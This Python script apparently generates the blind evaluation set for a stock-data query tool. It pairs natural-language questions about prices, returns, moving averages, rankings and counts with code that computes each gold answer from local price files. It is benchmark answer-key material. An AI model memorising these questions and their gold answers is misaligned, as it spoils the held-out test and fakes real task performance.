#!/usr/bin/env python3
"""Held-out (blind) evaluation set for `stockctl ask`.

Every question lives in this file together with the code that computes its gold answer straight from the source
files (../shared/data/stocks/<sym>.us.txt and ../shared/data/intraday/*.csv). No number is typed by hand.
Standard library only (Python 3.11).  Run:  python3 make_gold.py   -> writes questions.jsonl beside this file.

Conventions follow ../FORMAT.md:
  daily return = close / previous session close - 1; gap = open / previous session close - 1; range = high - low;
  change between dates = close(later) / close(earlier) - 1, a non-trading day meaning the session before it;
  N-day MA = mean of the last N closes including the day; volatility = sample stdev of daily returns in the window;
  correlation = Pearson of daily returns on common dates in the window; VWAP = sum(close*vol)/sum(vol);
  52-week high/low = max high / min low over the 365 days up to and including the date.
Intraday timestamps are UTC in the files and converted to America/New_York; an ETF's daily bar for a New York date is
open of the first minute, max high, min low, close of the last minute, sum of volumes (all minutes of that date).
"""
import csv
import datetime as dt
import json
import statistics
from collections import namedtuple
from pathlib import Path
from zoneinfo import ZoneInfo

HERE = Path(__file__).resolve().parent
DATA = Path(__file__).resolve().parents[4] / 'shared' / 'data'
NY = ZoneInfo('America/New_York')
UTC = dt.timezone.utc

Bar = namedtuple('Bar', 'd o h l c v')          # d = 'YYYY-MM-DD'
MBar = namedtuple('MBar', 'ts o h l c v')       # ts = 'YYYY-MM-DD HH:MM' New York time

DAILY_SYMS = ['AAPL', 'AMD', 'AMZN', 'FB', 'GOOGL', 'IBM', 'INTC', 'JPM', 'KO', 'MSFT', 'NFLX', 'NVDA', 'TSLA']
ETF_SYMS = ['INDA', 'FXY', 'DBB']
ALL_SYMS = DAILY_SYMS + ETF_SYMS
TODAY = '2025-07-08'          # newest date in the data (FORMAT.md)


def num(x):
    """Turn a volume that is integral into an int, keep other numbers as float."""
    return int(x) if float(x).is_integer() else float(x)


# ----------------------------------------------------------------------------------------------------------- load
DAILY = {}
for s in DAILY_SYMS:
    rows = []
    with open(DATA / 'stocks' / f'{s.lower()}.us.txt', newline='') as fh:
        for r in csv.DictReader(fh):
            rows.append(Bar(r['Date'], float(r['Open']), float(r['High']), float(r['Low']), float(r['Close']),
                            num(float(r['Volume']))))
    rows.sort(key=lambda b: b.d)
    DAILY[s] = rows

MINUTES = {}
for s in ETF_SYMS:
    (path,) = list((DATA / 'intraday').glob(f'{s}_1min_*.csv'))
    rows = []
    with open(path, newline='') as fh:
        for r in csv.DictReader(fh):
            t = dt.datetime.strptime(r['timestamp'], '%Y-%m-%d %H:%M:%S').replace(tzinfo=UTC).astimezone(NY)
            rows.append(MBar(t.strftime('%Y-%m-%d %H:%M'), float(r['open']), float(r['high']), float(r['low']),
                             float(r['close']), float(r['volume'])))
    rows.sort(key=lambda m: m.ts)
    MINUTES[s] = rows
    days = {}
    for m in rows:
        days.setdefault(m.ts[:10], []).append(m)
    DAILY[s] = [Bar(d, ms[0].o, max(m.h for m in ms), min(m.l for m in ms), ms[-1].c, num(sum(m.v for m in ms)))
                for d, ms in sorted(days.items())]

INDEX = {s: {b.d: i for i, b in enumerate(bs)} for s, bs in DAILY.items()}


# -------------------------------------------------------------------------------------------------------- helpers
def at(s, d):
    """The bar of symbol s on exactly date d (must be a session)."""
    assert d in INDEX[s], (s, d, 'not a session')
    return DAILY[s][INDEX[s][d]]


def on_or_before(s, d):
    """The session on d, or the last one before it."""
    best = None
    for b in DAILY[s]:
        if b.d <= d:
            best = b
        else:
            break
    assert best is not None, (s, d)
    return best


def non_session(s, d):
    assert d not in INDEX[s], (s, d, 'expected a non-trading day')
    return on_or_before(s, d)


def prev_bar(s, d):
    i = INDEX[s][d]
    assert i > 0
    return DAILY[s][i - 1]


def ret(s, d):
    return at(s, d).c / prev_bar(s, d).c - 1


def gap(s, d):
    return at(s, d).o / prev_bar(s, d).c - 1


def bars(s, a, b):
    out = [x for x in DAILY[s] if a <= x.d <= b]
    assert out, (s, a, b)
    return out


def rets(s, a, b):
    """[(date, daily return)] for every session in [a, b] that has a previous session in the data."""
    return [(x.d, ret(s, x.d)) for x in bars(s, a, b) if INDEX[s][x.d] > 0]


def change(s, a, b):
    return on_or_before(s, b).c / on_or_before(s, a).c - 1


def ma(s, d, n):
    i = INDEX[s][d]
    assert i + 1 >= n, (s, d, n)
    return statistics.fmean(x.c for x in DAILY[s][i + 1 - n:i + 1])


def shift(d, days):
    return (dt.date.fromisoformat(d) + dt.timedelta(days=days)).isoformat()


def w52(s, d, which):
    """52-week high/low: the 365 days up to and including d. Computed for the windows [d-364, d] and [d-365, d];
    the question must be chosen so both readings agree."""
    vals = []
    for back in (364, 365):
        bs = bars(s, shift(d, -back), d)
        vals.append(max(x.h for x in bs) if which == 'high' else min(x.l for x in bs))
    assert vals[0] == vals[1], (s, d, which, vals)
    return vals[0]


def unique_best(items, key, reverse=True):
    """Sort items by key and assert the winner is not tied."""
    srt = sorted(items, key=key, reverse=reverse)
    if len(srt) > 1:
        assert key(srt[0]) != key(srt[1]), ('tie', srt[:2])
    return srt


def streak(s, a, b, sign):
    """Longest run of consecutive sessions in [a, b] with daily return > 0 (sign=+1) or < 0 (sign=-1).
    Asserts the winner is unique and does not run across the window's edges (so no reading of the window differs)."""
    rs = rets(s, a, b)
    runs, cur = [], []
    for d, r in rs:
        if r * sign > 0:
            cur.append(d)
        else:
            if cur:
                runs.append(cur)
            cur = []
    if cur:
        runs.append(cur)
    runs.sort(key=len, reverse=True)
    assert len(runs) > 1 and len(runs[0]) != len(runs[1]), (s, a, b, 'tie', [len(r) for r in runs[:3]])
    best = runs[0]
    i0, i1 = INDEX[s][best[0]], INDEX[s][best[-1]]
    assert i0 == 0 or best[0] != rs[0][0] or ret(s, DAILY[s][i0 - 1].d) * sign <= 0, 'streak starts before window'
    assert i1 == len(DAILY[s]) - 1 or best[-1] != rs[-1][0] or ret(s, DAILY[s][i1 + 1].d) * sign <= 0, \
        'streak continues after window'
    return [len(best), best[0], best[-1]]


def vol(s, a, b):
    return statistics.stdev([r for _, r in rets(s, a, b)])


def corr(s1, s2, a, b):
    r1, r2 = dict(rets(s1, a, b)), dict(rets(s2, a, b))
    common = sorted(set(r1) & set(r2))
    return statistics.correlation([r1[d] for d in common], [r2[d] for d in common])


def candle(s, a, b):
    bs = bars(s, a, b)
    return [bs[0].o, max(x.h for x in bs), min(x.l for x in bs), bs[-1].c, num(sum(x.v for x in bs))]


def minutes(s, a, b):
    """Minute bars with a <= ts <= b (New York time strings)."""
    return [m for m in MINUTES[s] if a <= m.ts <= b]


def vwap(ms):
    assert ms
    return sum(m.c * m.v for m in ms) / sum(m.v for m in ms)


def crossover(s, short, long_, before, kind='any'):
    """Most recent session strictly before `before` on which (MA_short - MA_long) changed sign.
    kind: 'golden' (short crosses above long), 'death' (crosses below) or 'any'."""
    bs = DAILY[s]
    last = None
    prev_diff = None
    for i, b in enumerate(bs):
        if b.d >= before:
            break
        if i + 1 < long_:
            continue
        diff = ma(s, b.d, short) - ma(s, b.d, long_)
        if prev_diff is not None:
            golden = prev_diff <= 0 < diff
            death = prev_diff >= 0 > diff
            if (kind == 'golden' and golden) or (kind == 'death' and death) or (kind == 'any' and (golden or death)):
                last = b.d
        prev_diff = diff
    assert last is not None
    return last


def ath_distance(s, d):
    """close on d / highest close up to and including d - 1 (0 or negative)."""
    i = INDEX[s][d]
    top = max(x.c for x in DAILY[s][:i + 1])
    return DAILY[s][i].c / top - 1


def syms_on(d, pool=None):
    return [s for s in (pool or ALL_SYMS) if d in INDEX[s]]


def perf(a, b, pool=None):
    """[(sym, change)] for every symbol with a session on both dates a and b (exact sessions)."""
    return [(s, at(s, b).c / at(s, a).c - 1) for s in (pool or ALL_SYMS) if a in INDEX[s] and b in INDEX[s]]


def R(x, nd=6):
    return round(x, nd)


def P(x):
    """prices"""
    return round(x, 4)


def G(rows, match='first', exact=False):
    return {'rows': rows, 'match': match, 'exact_rows': exact}


# ------------------------------------------------------------------------------------------------------ questions
QUESTIONS = []


def q(kind, question, gold):
    QUESTIONS.append({'kind': kind, 'question': question, 'gold': gold})


def refuse(kind, question):
    QUESTIONS.append({'kind': kind, 'question': question, 'refusal': kind})


def last_n(s, n):
    return DAILY[s][-n:]


# ---- latest-rows
K = 'latest-rows'
q(K, 'last 5 closes of FXY', lambda: G([[b.d, P(b.c)] for b in last_n('FXY', 5)], 'set', True))
q(K, 'recent INDA prices', lambda: G([[b.d, P(b.c)] for b in last_n('INDA', 1)], 'set', False))
q(K, "Show me DBB's 3 most recent sessions.", lambda: G([[b.d, P(b.c)] for b in last_n('DBB', 3)], 'set', True))
q(K, "Apple's most recent prices, as of Nov 10, 2017", lambda: G([[b.d, P(b.c)] for b in last_n('AAPL', 1)], 'set'))
q(K, 'tesla last 10 trading days up to 2017-11-10, closing prices only pls',
  lambda: G([[b.d, P(b.c)] for b in last_n('TSLA', 10)], 'set', True))
q(K, "Most recent close for the Japanese yen ETF FXY?", lambda: G([[b.d, P(b.c)] for b in last_n('FXY', 1)]))
q(K, 'Give me the final 4 rows of Netflix data, i.e. through Nov 10 2017', lambda: G([[b.d, P(b.c)] for b in last_n('NFLX', 4)], 'set', True))
q(K, 'latest INDA close and volume', lambda: G([[b.d, P(b.c), b.v] for b in last_n('INDA', 1)]))

# ---- day-value
K = 'day-value'
q(K, "Tesla's close on March 4 2016", lambda: G([['2016-03-04', P(at('TSLA', '2016-03-04').c)]]))
q(K, 'what did IBM open at on 2010-06-01', lambda: G([['2010-06-01', P(at('IBM', '2010-06-01').o)]]))
q(K, 'Microsoft high on 7/15/2014?', lambda: G([['2014-07-15', P(at('MSFT', '2014-07-15').h)]]))
q(K, 'AMZN volume 2015-10-23', lambda: G([['2015-10-23', at('AMZN', '2015-10-23').v]]))
q(K, "What was Coca-Cola's low on Saturday, Aug 22 2015?",
  lambda: G([[non_session('KO', '2015-08-22').d, P(non_session('KO', '2015-08-22').l)]]))
q(K, 'Nvidia closing price on Christmas Day 2013',
  lambda: G([[non_session('NVDA', '2013-12-25').d, P(non_session('NVDA', '2013-12-25').c)]]))
q(K, 'JPM close 14 Feb 2012', lambda: G([['2012-02-14', P(at('JPM', '2012-02-14').c)]]))
q(K, 'FXY closing price on 2024-03-19', lambda: G([['2024-03-19', P(at('FXY', '2024-03-19').c)]]))

# ---- date-range-rows
K = 'date-range-rows'
q(K, 'AAPL prices Jan 16-19, 2017', lambda: G([[b.d, P(b.c)] for b in bars('AAPL', '2017-01-16', '2017-01-19')],
                                             'set', True))
q(K, 'Show Facebook closes from 2016-02-01 through 2016-02-12',
  lambda: G([[b.d, P(b.c)] for b in bars('FB', '2016-02-01', '2016-02-12')], 'set', True))
q(K, 'Intel daily prices for March 2017', lambda: G([[b.d, P(b.c)] for b in bars('INTC', '2017-03-01', '2017-03-31')],
                                                     'set', True))
q(K, 'list GOOGL daily closes in Q1 2013',
  lambda: G([[b.d, P(b.c)] for b in bars('GOOGL', '2013-01-01', '2013-03-31')], 'set', True))
q(K, 'KO closing prices for H2 2016', lambda: G([[b.d, P(b.c)] for b in bars('KO', '2016-07-01', '2016-12-31')],
                                                 'set', True))
q(K, 'FXY daily bars Aug 5 through Aug 9, 2024',
  lambda: G([[b.d, P(b.c)] for b in bars('FXY', '2024-08-05', '2024-08-09')], 'set', True))
q(K, 'AMD between Sept 1 and Sept 10 2015 (inclusive)',
  lambda: G([[b.d, P(b.c)] for b in bars('AMD', '2015-09-01', '2015-09-10')], 'set', True))
q(K, 'Netflix prices from Dec 24, 2014 thru Jan 6 2015',
  lambda: G([[b.d, P(b.c)] for b in bars('NFLX', '2014-12-24', '2015-01-06')], 'set', True))

# ---- window-aggregate
K = 'window-aggregate'
q(K, 'average volume of AMD in Q3 2015',
  lambda: G([[R(statistics.fmean(b.v for b in bars('AMD', '2015-07-01', '2015-09-30')), 2)]]))
q(K, "What was the maximum closing price of Amazon during 2014?",
  lambda: G([[P(max(b.c for b in bars('AMZN', '2014-01-01', '2014-12-31')))]]))
q(K, 'min low for NVDA during Feb 2016', lambda: G([[P(min(b.l for b in bars('NVDA', '2016-02-01', '2016-02-29')))]]))
q(K, 'Total volume traded in Microsoft, January 2017',
  lambda: G([[sum(b.v for b in bars('MSFT', '2017-01-01', '2017-01-31'))]]))
q(K, 'mean closing price of JPMorgan from 2012-04-01 to 2012-06-30',
  lambda: G([[P(statistics.fmean(b.c for b in bars('JPM', '2012-04-01', '2012-06-30')))]]))
q(K, 'avg daily volume for FXY in June 2025',
  lambda: G([[R(statistics.fmean(b.v for b in bars('FXY', '2025-06-01', '2025-06-30')), 2)]]))
q(K, 'sum of DBB volume last month',   # last month relative to 2025-07-08 = June 2025
  lambda: G([[num(sum(b.v for b in bars('DBB', '2025-06-01', '2025-06-30')))]]))
q(K, "Google's avrage daily high in 2011?",
  lambda: G([[P(statistics.fmean(b.h for b in bars('GOOGL', '2011-01-01', '2011-12-31')))]]))


# ---- extreme-day
K = 'extreme-day'


def extreme(s, a, b, field, highest=True):
    bs = unique_best(bars(s, a, b), key=lambda x: getattr(x, field), reverse=highest)
    v = getattr(bs[0], field)
    return G([[bs[0].d, v if field == 'v' else P(v)]])


q(K, 'when did Netflix hit its all-time high', lambda: extreme('NFLX', '0000', '9999', 'h'))
q(K, "Tesla's highest close in 2015 and the date", lambda: extreme('TSLA', '2015-01-01', '2015-12-31', 'c'))
q(K, 'On which day did AAPL make its lowest low of 2016?', lambda: extreme('AAPL', '2016-01-01', '2016-12-31', 'l',
                                                                          False))
q(K, 'busiest day for AMD in 2016 by volume', lambda: extreme('AMD', '2016-01-01', '2016-12-31', 'v'))
q(K, 'record closing price for Microsoft — what and when?', lambda: extreme('MSFT', '0000', '9999', 'c'))
q(K, 'What was the lowest close Facebook ever had, and on what date?', lambda: extreme('FB', '0000', '9999', 'c', False))
q(K, 'FXY highest close over 2024', lambda: extreme('FXY', '2024-01-01', '2024-12-31', 'c'))
q(K, 'Which 2017 session had the lightest volume for Nvidia?',
  lambda: extreme('NVDA', '2017-01-01', '2017-12-31', 'v', False))

# ---- 52-week
K = '52-week'
q(K, '52-week high of AAPL as of 2016-06-30', lambda: G([[P(w52('AAPL', '2016-06-30', 'high'))]]))
q(K, "What's IBM's 52 wk low on 2015-12-31?", lambda: G([[P(w52('IBM', '2015-12-31', 'low'))]]))
q(K, '52-week high for Netflix on March 1, 2017', lambda: G([[P(w52('NFLX', '2017-03-01', 'high'))]]))
q(K, 'Coke 52-week low as of 2014-10-15', lambda: G([[P(w52('KO', '2014-10-15', 'low'))]]))
q(K, 'current 52-week low for FXY', lambda: G([[P(w52('FXY', TODAY, 'low'))]]))
q(K, 'DBB 52w high as of June 30 2025', lambda: G([[P(w52('DBB', '2025-06-30', 'high'))]]))
q(K, 'Tesla 52-week low as of 2016-02-10', lambda: G([[P(w52('TSLA', '2016-02-10', 'low'))]]))
q(K, "amazon's 52 week high on 2016-12-30", lambda: G([[P(w52('AMZN', '2016-12-30', 'high'))]]))

# ---- change-between
K = 'change-between'
q(K, 'how much did Amazon gain in 2015', lambda: G([[R(change('AMZN', '2015-01-01', '2015-12-31'))]]))
q(K, 'Apple: % change from the Jan 3 2017 close to the Feb 7 2017 close',
  lambda: G([[R(at('AAPL', '2017-02-07').c / at('AAPL', '2017-01-03').c - 1)]]))
q(K, 'Percent change in NVDA between 2016-01-04 and 2016-12-30',
  lambda: G([[R(change('NVDA', '2016-01-04', '2016-12-30'))]]))
q(K, 'What was the return on Tesla from June 29, 2010 to June 29, 2015?',
  lambda: G([[R(at('TSLA', '2015-06-29').c / at('TSLA', '2010-06-29').c - 1)]]))
q(K, 'change in INTC price between 2000-03-27 and 2002-10-09',
  lambda: G([[R(change('INTC', '2000-03-27', '2002-10-09'))]]))
q(K, 'How did FXY move from 2024-07-10 to 2024-08-05?', lambda: G([[R(change('FXY', '2024-07-10', '2024-08-05'))]]))
q(K, 'Alphabet percent change, March 1 2014 to March 1 2015',   # both weekend days -> sessions before
  lambda: G([[R(non_session('GOOGL', '2015-03-01').c / non_session('GOOGL', '2014-03-01').c - 1)]]))
q(K, 'How much did Facebook lose from its first close (2012-05-18) to the end of 2012?',
  lambda: G([[R(change('FB', '2012-05-18', '2012-12-31'))]]))

# ---- daily-return-or-gap
K = 'daily-return-or-gap'
q(K, "what was Apple's daily return on 2016-04-27", lambda: G([['2016-04-27', R(ret('AAPL', '2016-04-27'))]]))
q(K, 'did MSFT gap up on 2016-04-22?', lambda: G([['2016-04-22', R(gap('MSFT', '2016-04-22'))]]))
q(K, 'Netflix opening gap on July 19 2016', lambda: G([['2016-07-19', R(gap('NFLX', '2016-07-19'))]]))
q(K, 'Daily % change for Amazon 2017-10-27', lambda: G([['2017-10-27', R(ret('AMZN', '2017-10-27'))]]))
q(K, 'How much did AMD move on 2016-07-22?', lambda: G([['2016-07-22', R(ret('AMD', '2016-07-22'))]]))
q(K, 'FB gap at the open on 2013-07-25', lambda: G([['2013-07-25', R(gap('FB', '2013-07-25'))]]))
q(K, 'INDA daily return 2025-04-07', lambda: G([['2025-04-07', R(ret('INDA', '2025-04-07'))]]))
q(K, "What was the overnight gap for FXY on 2024-08-05?", lambda: G([['2024-08-05', R(gap('FXY', '2024-08-05'))]]))


# ---- biggest-move-day
K = 'biggest-move-day'


def biggest(s, a, b, measure='ret', direction='up'):
    f = ret if measure == 'ret' else gap
    items = [(x.d, f(s, x.d)) for x in bars(s, a, b) if INDEX[s][x.d] > 0]
    if direction == 'up':
        srt = unique_best(items, key=lambda t: t[1])
    elif direction == 'down':
        srt = unique_best(items, key=lambda t: t[1], reverse=False)
    else:
        srt = unique_best(items, key=lambda t: abs(t[1]))
    return G([[srt[0][0], R(srt[0][1])]])


q(K, 'biggest one-day drop for Netflix in 2016', lambda: biggest('NFLX', '2016-01-01', '2016-12-31', 'ret', 'down'))
q(K, "Tesla's largest daily gain in 2013", lambda: biggest('TSLA', '2013-01-01', '2013-12-31', 'ret', 'up'))
q(K, 'On what day in Q1 2016 did AMD have its biggest gap up?',
  lambda: biggest('AMD', '2016-01-01', '2016-03-31', 'gap', 'up'))
q(K, 'worst day for Apple stock in 2008', lambda: biggest('AAPL', '2008-01-01', '2008-12-31', 'ret', 'down'))
q(K, 'largest gap down for GOOGL in 2015', lambda: biggest('GOOGL', '2015-01-01', '2015-12-31', 'gap', 'down'))
q(K, 'Biggest daily move in either direction for IBM in 2017 (through Nov 10)',
  lambda: biggest('IBM', '2017-01-01', '2017-11-10', 'ret', 'abs'))
q(K, 'FXY best single-day gain during 2024', lambda: biggest('FXY', '2024-01-01', '2024-12-31', 'ret', 'up'))
q(K, "Facebook's steepest daily decline in 2014", lambda: biggest('FB', '2014-01-01', '2014-12-31', 'ret', 'down'))


# ---- cross-sectional-ranking
K = 'cross-sectional-ranking'


def xs(d, f, n=None, highest=True, exact=False):
    items = [(s, f(s)) for s in syms_on(d)]
    srt = unique_best(items, key=lambda t: t[1], reverse=highest)
    if n is None:
        return G([[srt[0][0], R(srt[0][1], 4)]])
    return G([[s, R(v, 6)] for s, v in srt[:n]], 'ordered', exact)


q(K, 'Which 3 stocks had the widest trading range on 2016-11-09?',
  lambda: xs('2016-11-09', lambda s: at(s, '2016-11-09').h - at(s, '2016-11-09').l, 3, True, True))
q(K, 'Which stock closed highest on 2015-05-01?', lambda: xs('2015-05-01', lambda s: at(s, '2015-05-01').c))
q(K, 'most expensive stock on 15 March 2013', lambda: xs('2013-03-15', lambda s: at(s, '2013-03-15').c))
q(K, '5 lowest closing prices across all tickers on 2017-08-01',
  lambda: xs('2017-08-01', lambda s: at(s, '2017-08-01').c, 5, False, True))
q(K, 'biggest gap up across all the stocks on 2016-11-09',
  lambda: xs('2016-11-09', lambda s: gap(s, '2016-11-09')))
q(K, 'most traded stock by volume on 2014-09-19', lambda: xs('2014-09-19', lambda s: at(s, '2014-09-19').v))
q(K, 'Rank every stock by its closing price on 2017-11-10, highest first',
  lambda: xs('2017-11-10', lambda s: at(s, '2017-11-10').c, 99, True, True))
q(K, 'Of everything in the database, what had the widest high-low range on 2025-03-03?',
  lambda: xs('2025-03-03', lambda s: at(s, '2025-03-03').h - at(s, '2025-03-03').l))


# ---- gainers-losers
K = 'gainers-losers'


def movers(a, b, n, best=True, exact=True, pool=None):
    srt = unique_best(perf(a, b, pool), key=lambda t: t[1], reverse=best)
    return G([[s, R(v)] for s, v in srt[:n]], 'ordered' if n > 1 else 'first', exact if n > 1 else False)


q(K, 'top 3 gainers between 2016-01-04 and 2016-12-30', lambda: movers('2016-01-04', '2016-12-30', 3))
q(K, 'worst performing stock in 2008',     # 2008-01-01 -> session before = 2007-12-31
  lambda: movers(on_or_before('IBM', '2008-01-01').d, '2008-12-31', 1, False))
q(K, 'Bottom 3 performers from 2017-01-03 to 2017-06-30', lambda: movers('2017-01-03', '2017-06-30', 3, False))
q(K, 'best performing stock from the 2015-09-30 close to the 2015-12-31 close',
  lambda: movers('2015-09-30', '2015-12-31', 1))
q(K, 'Which 5 stocks gained the most between March 9 2009 and March 9 2010?',
  lambda: movers('2009-03-09', '2010-03-09', 5))
q(K, 'top performer among all tickers from 2025-03-03 to 2025-06-20', lambda: movers('2025-03-03', '2025-06-20', 1))
q(K, 'biggest 5 losers 2011-08-01 to 2011-08-10', lambda: movers('2011-08-01', '2011-08-10', 5, False))
q(K, 'who gained most from the last close of 2012 to the last close of 2013?',
  lambda: movers('2012-12-31', '2013-12-31', 1))


# ---- named-comparison
K = 'named-comparison'


def compare(syms, f, highest=True, full=True):
    srt = unique_best([(s, f(s)) for s in syms], key=lambda t: t[1], reverse=highest)
    if full:
        return G([[s, R(v, 6)] for s, v in srt], 'ordered', True)
    return G([[srt[0][0], R(srt[0][1], 6)]])


q(K, 'which of Apple, Microsoft and Google had the highest average close in 2016',
  lambda: compare(['AAPL', 'MSFT', 'GOOGL'], lambda s: statistics.fmean(b.c for b in bars(s, '2016-01-01', '2016-12-31'))))
q(K, 'Between AMD, NVDA and INTC, which had the biggest return from the 2015-12-31 close to the 2016-12-30 close?',
  lambda: compare(['AMD', 'NVDA', 'INTC'], lambda s: change(s, '2015-12-31', '2016-12-30')))
q(K, 'FB vs TSLA: which traded more total shares in 2015?',
  lambda: compare(['FB', 'TSLA'], lambda s: sum(b.v for b in bars(s, '2015-01-01', '2015-12-31'))))
q(K, 'KO, JPM or IBM — which was least volatile in 2014?',
  lambda: compare(['KO', 'JPM', 'IBM'], lambda s: vol(s, '2014-01-01', '2014-12-31'), highest=False, full=False))
q(K, 'Which closed higher on 2014-06-02, Amazon or Google?',
  lambda: compare(['AMZN', 'GOOGL'], lambda s: at(s, '2014-06-02').c))
q(K, 'Of NFLX, AMZN and FB, which reached the highest high in 2017?',
  lambda: compare(['NFLX', 'AMZN', 'FB'], lambda s: max(b.h for b in bars(s, '2017-01-01', '2017-12-31'))))
q(K, 'FXY or DBB: which had the higher average daily volume in 2024?',
  lambda: compare(['FXY', 'DBB'], lambda s: statistics.fmean(b.v for b in bars(s, '2024-01-01', '2024-12-31'))))
q(K, 'Which of Intel, IBM and Microsoft had the widest average daily range (high minus low) in 2010?',
  lambda: compare(['INTC', 'IBM', 'MSFT'],
                  lambda s: statistics.fmean(b.h - b.l for b in bars(s, '2010-01-01', '2010-12-31'))))


# ---- grouped-by-period
K = 'grouped-by-period'


def months(year, m1=1, m2=12):
    out = []
    for m in range(m1, m2 + 1):
        a = dt.date(year, m, 1)
        b = (dt.date(year + (m == 12), m % 12 + 1, 1) - dt.timedelta(days=1))
        out.append((a.isoformat(), b.isoformat()))
    return out


QUARTERS = lambda y: [(f'{y}-01-01', f'{y}-03-31'), (f'{y}-04-01', f'{y}-06-30'), (f'{y}-07-01', f'{y}-09-30'),
                      (f'{y}-10-01', f'{y}-12-31')]


def grouped(s, spans, f):
    return G([[R(f(bars(s, a, b)), 4)] for a, b in spans], 'ordered', True)


avg_close = lambda bs: statistics.fmean(b.c for b in bs)
tot_vol = lambda bs: sum(b.v for b in bs)
avg_vol = lambda bs: statistics.fmean(b.v for b in bs)

q(K, 'monthly average close of AAPL in 2016', lambda: grouped('AAPL', months(2016), avg_close))
q(K, "Tesla's total volume by quarter for 2014", lambda: grouped('TSLA', QUARTERS(2014), tot_vol))
q(K, 'yearly average closing price for Coca-Cola, 2010 to 2015',
  lambda: grouped('KO', [(f'{y}-01-01', f'{y}-12-31') for y in range(2010, 2016)], avg_close))
q(K, 'weekly average close of NVDA for the four weeks starting Mon Jan 4 2016 (Mon-Fri weeks)',
  lambda: grouped('NVDA', [(shift('2016-01-04', 7 * k), shift('2016-01-08', 7 * k)) for k in range(4)], avg_close))
q(K, 'FXY average close by month, H1 2025', lambda: grouped('FXY', months(2025, 1, 6), avg_close))
q(K, 'monthly total volume for DBB in Q2 2025', lambda: grouped('DBB', months(2025, 4, 6), tot_vol))
q(K, 'Netflix avg daily volume per year, 2012 through 2016',
  lambda: grouped('NFLX', [(f'{y}-01-01', f'{y}-12-31') for y in range(2012, 2017)], avg_vol))
q(K, 'quarterly average close of JPM in 2009', lambda: grouped('JPM', QUARTERS(2009), avg_close))


# ---- period-over-period
K = 'period-over-period'


def pop(s, p1, p2, f=avg_close):
    v1, v2 = f(bars(s, *p1)), f(bars(s, *p2))
    return G([[R(v2 / v1 - 1)]])


Y = lambda y: (f'{y}-01-01', f'{y}-12-31')
q(K, "how did Intel's average close in 2016 compare to 2015", lambda: pop('INTC', Y(2015), Y(2016)))
q(K, 'AMZN average volume Q2 2017 vs Q1 2017, % change',
  lambda: pop('AMZN', QUARTERS(2017)[0], QUARTERS(2017)[1], avg_vol))
q(K, "Apple's avg close in H2 2015 versus H1 2015 — percent difference?",
  lambda: pop('AAPL', ('2015-01-01', '2015-06-30'), ('2015-07-01', '2015-12-31')))
q(K, 'Telsa average close Feb 2017 vs Jan 2017', lambda: pop('TSLA', months(2017)[0], months(2017)[1]))
q(K, 'FXY: average close in Q2 2025 compared with Q1 2025',
  lambda: pop('FXY', QUARTERS(2025)[0], QUARTERS(2025)[1]))
q(K, 'Netflix average daily volume in 2016 compared with 2015', lambda: pop('NFLX', Y(2015), Y(2016), avg_vol))
q(K, 'Coca-Cola: average close in 2017 (data through Nov 10) vs 2016', lambda: pop('KO', Y(2016), Y(2017)))
q(K, 'GOOGL average close Q4 2014 vs Q4 2013, year over year', lambda: pop('GOOGL', QUARTERS(2013)[3],
                                                                           QUARTERS(2014)[3]))

# ---- moving-average
K = 'moving-average'
q(K, '50-day moving average of AAPL on 2016-09-30', lambda: G([['2016-09-30', P(ma('AAPL', '2016-09-30', 50))]]))
q(K, '200 day MA for MSFT as of 2017-06-30', lambda: G([['2017-06-30', P(ma('MSFT', '2017-06-30', 200))]]))
q(K, '20-day SMA of Tesla on 2017-03-15', lambda: G([['2017-03-15', P(ma('TSLA', '2017-03-15', 20))]]))
q(K, 'When was the most recent golden cross (50-day crossing above 200-day) for NVDA before 2016-01-01?',
  lambda: G([[crossover('NVDA', 50, 200, '2016-01-01', 'golden')]]))
q(K, "last time Netflix's 50-day average crossed below its 200-day before 2017-01-01",
  lambda: G([[crossover('NFLX', 50, 200, '2017-01-01', 'death')]]))
q(K, 'FXY 10-day moving avg today', lambda: G([[TODAY, P(ma('FXY', TODAY, 10))]]))
q(K, 'most recent crossover of the 20-day and 50-day moving averages for IBM before 2015-06-01',
  lambda: G([[crossover('IBM', 20, 50, '2015-06-01', 'any')]]))
q(K, "What's Amazon's 100-day moving average on 2015-12-31?",
  lambda: G([['2015-12-31', P(ma('AMZN', '2015-12-31', 100))]]))


# ---- threshold-count
K = 'threshold-count'


def count(s, a, b, cond):
    return G([[sum(1 for x in bars(s, a, b) if cond(x))]])


q(K, 'how many days did Tesla close above 300 in 2017', lambda: count('TSLA', '2017-01-01', '2017-12-31',
                                                                     lambda x: x.c > 300))
q(K, 'AMD: number of sessions in 2016 with a daily drop worse than 5%',
  lambda: count('AMD', '2016-01-01', '2016-12-31', lambda x: ret('AMD', x.d) < -0.05))
q(K, 'How many times did NFLX close below 100 in 2016?', lambda: count('NFLX', '2016-01-01', '2016-12-31',
                                                                       lambda x: x.c < 100))
q(K, 'number of trading days Apple volume exceeded 60 million shares in 2015',
  lambda: count('AAPL', '2015-01-01', '2015-12-31', lambda x: x.v > 60_000_000))
q(K, 'How many days in Q1 2017 did Microsoft close higher than it opened?',
  lambda: count('MSFT', '2017-01-01', '2017-03-31', lambda x: x.c > x.o))
q(K, 'FB — days in 2016 with a gain of more than 2%', lambda: count('FB', '2016-01-01', '2016-12-31',
                                                                   lambda x: ret('FB', x.d) > 0.02))
q(K, 'How many sessions did FXY gap down by more than 0.5% in 2024?',
  lambda: count('FXY', '2024-01-01', '2024-12-31', lambda x: gap('FXY', x.d) < -0.005))
q(K, "count of days when IBM's intraday range exceeded $3 in 2013",
  lambda: count('IBM', '2013-01-01', '2013-12-31', lambda x: x.h - x.l > 3))


# ---- cross-stock-count
K = 'cross-stock-count'


def xcount(d, cond):
    return G([[sum(1 for s in syms_on(d) if cond(s))]])


def closed_at_ath(s, d):
    i = INDEX[s][d]
    return i > 0 and DAILY[s][i].c > max(x.c for x in DAILY[s][:i])


q(K, 'how many stocks closed above $100 on 2017-06-01', lambda: xcount('2017-06-01', lambda s: at(s, '2017-06-01').c > 100))
q(K, 'On 2016-06-24 how many stocks fell?', lambda: xcount('2016-06-24', lambda s: ret(s, '2016-06-24') < 0))
q(K, 'number of tickers that gapped up on 2016-11-09', lambda: xcount('2016-11-09', lambda s: gap(s, '2016-11-09') > 0))
q(K, 'How many companies traded more than 20 million shares on 2015-08-24?',
  lambda: xcount('2015-08-24', lambda s: at(s, '2015-08-24').v > 20_000_000))
q(K, 'how many of the stocks were up more than 10% from the 2015-12-31 close to the 2016-12-30 close',
  lambda: G([[sum(1 for s, v in perf('2015-12-31', '2016-12-30') if v > 0.10)]]))
